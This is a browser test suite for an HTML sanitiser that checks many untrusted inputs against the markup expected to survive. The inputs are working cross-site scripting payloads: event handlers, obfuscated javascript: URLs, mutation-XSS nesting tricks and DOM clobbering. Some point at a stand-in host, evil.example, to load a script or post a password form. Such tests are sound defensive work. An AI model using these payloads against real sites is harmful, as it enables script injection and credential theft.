// Runs in every engine: the HTML parser.
import { expect, fixture, html } from '@open-wc/testing';
import { registry } from '../registry/registry.js';
import { parseByPolicy, parseInert, parseNatively } from './parse-inert.js';
import { sanitizeHtml, sanitizeText } from './sanitize-html.js';
import { removedTags, allowedTags } from './sanitizer-rules.js';

const markupOf = (content: DocumentFragment) => {
  const box = document.createElement('div');
  box.append(content);
  return box.innerHTML;
};
const cleaned = (source: string) => markupOf(sanitizeHtml(source, document));

/** Untrusted markup, and the markup that remains. */
const rows: [title: string, source: string, left: string][] = [
  ['words', 'a & b < c', 'a &amp; b &lt; c'],
  ['structure', '<p>One <b>two</b><br>three</p><ul><li>four</li></ul>', '<p>One <b>two</b><br>three</p><ul><li>four</li></ul>'],
  ['what is not closed', '<p>One<p>Two <em>three', '<p>One</p><p>Two <em>three</em></p>'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &copy; &#128522;', '&lt;script&gt;alert(1)&lt;/script&gt; © 😊'],
  ['a table', '<table><tr><td colspan=2 onclick=x>1</td></tr></table>', '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'],
  ['unknown elements', '<center><blink>words</blink></center><x-y>more</x-y>', 'wordsmore'],
  ['language', '<p lang="de" dir=rtl title="T">x</p>', '<p lang="de" dir="rtl" title="T">x</p>'],
  ['an invalid language', '<p lang="\'><img>" dir=up>x</p>', '<p>x</p>'],
  ['a script', 'a<script>hacked=1</script>b', 'ab'],
  ['a script in capitals', 'a<ScRiPt src=//evil.example/x.js></sCrIpT>b', 'ab'],
  ['a script not closed', 'a<script>hacked=1', 'a'],
  ['a picture', '<img src=x onerror="hacked=1">b', 'b'],
  ['a picture with slashes', '<img/src=x/onerror=hacked=1//>b', 'b'],
  ['handlers', '<p onclick="hacked=1" ONMOUSEOVER=hacked=1 onanimationstart=hacked=1>x</p>', '<p>x</p>'],
  ['svg', 'a<svg onload=hacked=1><script>hacked=1</script><a xlink:href="javascript:hacked=1">x</a></svg>b', 'ab'],
  ['svg that hides a style', '<svg><style><img src=x onerror=hacked=1></style></svg>b', 'b'],
  [
    'math that changes its mind',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
    '',
  ],
  ['a form inside a form', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hacked=1 src>">', ''],
  [
    'noscript',
    '<noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript>b',
    '<p title="&lt;/noscript&gt;&lt;img src=x onerror=hacked=1&gt;">b</p>',
  ],
  ['a template', '<template><script>hacked=1</script></template>b', 'b'],
  ['a shadow root', '<div><template shadowrootmode=open><script>hacked=1</script></template>x</div>', '<div>x</div>'],
  ['a comment', 'a<!-- <script>hacked=1</script> -->b', 'ab'],
  ['a conditional comment', 'a<!--[if true]><script>hacked=1</script><![endif]-->b', 'ab'],
  ['character data', 'a<![CDATA[<script>hacked=1</script>]]>b', 'ahacked=1]]&gt;b'],
  ['a processing instruction', 'a<?xml-stylesheet href="javascript:hacked=1"?>b', 'ab'],
  ['a frame', '<iframe src="javascript:hacked=1"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>b', 'b'],
  ['objects', '<object data="data:text/html,<script>hacked=1</script>">in</object><embed src=x>b', 'b'],
  ['a style', '<style>*{background:url(//evil.example)}</style><p style="background:url(//evil.example)">x</p>', '<p>x</p>'],
  [
    'what comes from the head',
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example><link rel=stylesheet href=x>b',
    'b',
  ],
  ['a form', '<form action=//evil.example><input name=password value=x><button>Log in</button></form>', 'Log in'],
  [
    "names that shadow the page's",
    '<a id=hacked name=hacked href=x>x</a><p id=body class=modal>y</p>',
    '<a href="x" rel="nofollow noopener">x</a><p>y</p>',
  ],
  [
    'fields that shadow what a form has',
    '<form><input name=childNodes><input name=nodeType><input name=localName><b>x</b></form>y',
    '<b>x</b>y',
  ],
  [
    'more fields that shadow what a form has',
    '<form><input name=namespaceURI><input name=attributes><input name=textContent><b>x</b></form>y',
    '<b>x</b>y',
  ],
  [
    'names that shadow what a document has',
    '<img name=body><form name=documentElement><b>x</b></form><embed name=childNodes>y',
    '<b>x</b>y',
  ],
  ['slots, parts and popovers', '<p slot=success part=x popover is=x contenteditable autofocus tabindex=1>y</p>', '<p>y</p>'],
  [
    'a link',
    '<a href="https://pots.example/?a=1&b=2" target=_blank download ping=//evil.example>x</a>',
    '<a href="https://pots.example/?a=1&amp;b=2" rel="nofollow noopener" target="_blank">x</a>',
  ],
  ['a link to a frame', '<a href="/x" target="_top">x</a>', '<a href="/x" rel="nofollow noopener">x</a>'],
  ['mail', '<a href="mailto:a@b.ie">x</a>', '<a href="mailto:a@b.ie" rel="nofollow noopener">x</a>'],
  ['a script as address', '<a href="javascript:hacked=1">x</a>', '<a>x</a>'],
  ['a script as address in disguise', '<a href=" \u0001java\nscript&colon;hacked=1">x</a>', '<a>x</a>'],
  ['a script as address in entities', '<a href="&#x6A;&#97;vascript&#58;hacked=1">x</a>', '<a>x</a>'],
  ['data as address', '<a href="data:text/html,<script>hacked=1</script>">x</a>', '<a>x</a>'],
  ['vbscript and blobs', '<a href="vbscript:x">x</a><a href="blob:https://x/1">y</a>', '<a>x</a><a>y</a>'],
  [
    'a link in a link',
    '<a href="/1">1<a href="/2">2</a></a>',
    '<a href="/1" rel="nofollow noopener">1</a><a href="/2" rel="nofollow noopener">2</a>',
  ],
  ['text that would be read otherwise the second time', '<p><xmp></p><img src=x onerror=hacked=1></xmp>b</p>', '<p></p>b<p></p>'],
  ['plaintext', 'a<plaintext><img src=x onerror=hacked=1>', 'a'],
  ['a textarea', '<textarea></textarea><img src=x onerror=hacked=1></textarea>b', 'b'],
  ['a select', '<select><option>x</option></select>b', 'b'],
  ['a list with odd numbers', '<ol start=3 type=a><li value=x>1</li></ol>', '<ol start="3" type="a"><li>1</li></ol>'],
  ['a NUL', 'a<scr\0ipt>hacked=1</scr\0ipt>b', 'ahacked=1b'],
  ['a body with a handler', '<body onload=hacked=1><p>x</p></body>', '<p>x</p>'],
  [
    "attributes named as every object's own",
    '<p constructor=x __proto__=y toString=z hasOwnProperty>a</p><td constructor=1><constructor>b</constructor>',
    '<p>a</p>b',
  ],
  ['nothing', '', ''],
];

describe('safeContent', () => {
  for (const [title, source, left] of rows) {
    it(`leaves what is harmless of ${title}`, async () => {
      const content = sanitizeHtml(source, document);
      const box = await fixture<HTMLElement>(html`<div></div>`);
      box.append(content); // now is when something would run
      expect(box.innerHTML).to.equal(left);
      expect((window as { hacked?: unknown }).hacked).to.equal(undefined);
    });
  }

  it('is read alike by the browser\'s own sanitiser, where there is one, and by its parser', () => {
    for (const [title, source] of rows) {
      const native = parseNatively(source, document);
      if (!native) continue;
      // Both are only read from: the walk over them is the same.
      const from = (read: Document) => markupOf(sanitizeHtml(read.body.innerHTML, document));
      expect(from(native), title).to.equal(from(parseByPolicy(source, document)));
    }
  });

  it('says the same when it reads its own result', () => {
    for (const [title, source] of rows) expect(cleaned(cleaned(source)), title).to.equal(cleaned(source));
  });

  it('keeps the words of ten thousand nested elements and of a hundred thousand beside each other', () => {
    expect(sanitizeHtml(`${'<div>'.repeat(10_000)}deep`, document).textContent).to.equal('deep');
    expect(sanitizeHtml('<b>x</b>'.repeat(100_000), document).childNodes).to.have.length(100_000);
  });

  it('has no element in both of its lists', () => {
    expect([...allowedTags].filter(tag => removedTags.has(tag))).to.deep.equal([]);
  });

  it('gives plain words where no elements fit', () => {
    expect(sanitizeText('<p>Thank  you,\n<b>Ada</b></p><script>x</script>', document)).to.equal('Thank you, Ada');
  });

  describe('on a page with trusted types', () => {
    const source = '<p>Thank <b>you</b><img src=x onerror=hacked=1></p>';
    const asNodes = '<p>Thank <b>you</b></p>';
    const asText = '&lt;p&gt;Thank &lt;b&gt;you&lt;/b&gt;&lt;img src=x onerror=hacked=1&gt;&lt;/p&gt;';
    const { warn } = console;
    beforeEach(() => { delete registry.stores['html-policy@1']; });
    afterEach(() => {
      delete registry.stores['html-policy@1'];
      console.warn = warn;
    });

    /** A page of its own under a policy. */
    async function pageWith(policy: string): Promise<Document> {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'${policy}"><p>page`;
      const box = await fixture<HTMLElement>(html`<div></div>`);
      await new Promise(resolve => {
        frame.addEventListener('load', resolve, { once: true });
        box.append(frame);
      });
      return frame.contentDocument!;
    }

    for (const policy of ['', '; trusted-types site-elements', '; trusted-types site-elements other']) {
      it(`works under require-trusted-types-for${policy}`, async () => {
        const page = await pageWith(policy);
        expect(markupOf(sanitizeHtml(source, page))).to.equal(asNodes);
        expect(parseByPolicy(source, page).querySelector('b')?.textContent).to.equal('you');
        expect(parseByPolicy('<i>again</i>', page).querySelector('i')?.textContent).to.equal('again');
      });
    }

    it('works without our own policy where the browser can, else shows the markup as text with a reason', async () => {
      const page = await pageWith('; trusted-types \'none\'');
      const said: string[] = [];
      console.warn = (message: string) => said.push(message);
      const mayRead = parseInert('<i>x</i>', page) !== null;
      expect(markupOf(sanitizeHtml(source, page))).to.equal(mayRead ? asNodes : asText);
      expect(said.length).to.equal(mayRead ? 0 : 1);
    });
  });
});
